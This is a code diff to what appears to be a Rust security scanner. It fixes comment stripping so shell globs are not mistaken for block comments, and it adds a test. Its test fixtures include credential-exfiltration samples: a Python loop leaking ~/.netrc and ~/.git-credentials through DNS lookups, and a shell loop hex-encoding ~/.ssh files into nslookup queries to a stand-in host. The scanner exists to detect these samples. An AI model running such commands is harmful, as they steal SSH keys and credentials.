@@ -529,10 +529,14 @@ fn is_literal_table(statement: &str) -> bool {
         })
 }
 
-/// `line` without a trailing comment (`/* … */`, or `//` after a space): the words of a
-/// comment ("not present on this host") are not a command.
+/// `line` without a trailing comment (`/* … */` closed on the line, or `//` after a space):
+/// the words of a comment ("not present on this host") are not a command.
 fn without_comment(line: &str) -> &str {
-    let cut = [line.find("/*"), line.find(" //"), line.find("\t//")]
+    // A block comment closes on its line; a shell glob (`~/.ssh/*; do`) does not.
+    let block = line
+        .find("/*")
+        .filter(|&open| line[open + 2..].contains("*/"));
+    let cut = [block, line.find(" //"), line.find("\t//")]
         .into_iter()
         .flatten()
         .min();
@@ -1721,6 +1725,9 @@ mod tests {
         // Credential files hex-encoded into the names a script looks up.
         let dns = "HINTS = [\"~/.netrc\", \"~/.git-credentials\"]\nfor label in chunks(read(HINTS)):\n    socket.getaddrinfo(f\"{label}.probe.bench.example\", 443)\n";
         assert_eq!(codes("scripts/dnscheck.py", dns), ["SK908"]);
+        let glob =
+            "for f in ~/.ssh/*; do nslookup \"$(xxd -p \"$f\" | head -c 60).z.example\"; done\n";
+        assert_eq!(codes("scripts/probe.sh", glob), ["SK908"]);
     }
 
     #[test]
